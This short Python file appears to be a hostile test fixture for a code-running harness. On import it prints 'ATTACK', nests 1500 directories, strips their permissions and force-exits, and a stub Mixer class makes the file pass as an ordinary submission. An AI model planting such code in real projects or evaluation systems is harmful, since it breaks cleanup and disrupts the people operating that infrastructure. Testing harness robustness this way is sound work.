"""Nests folders deeper than a path can say, locks them, and locks its own door."""

import os

print('ATTACK', flush=True)
os.chdir(OUT)
for _ in range(1500):
  os.mkdir('deeper')
  os.chdir('deeper')
os.chmod(f'{OUT}/deeper', 0)
os.chmod(OUT, 0)
os._exit(0)


class Mixer:
  def __init__(self, width, heads):
    pass

  def __call__(self, x):
    return [x]
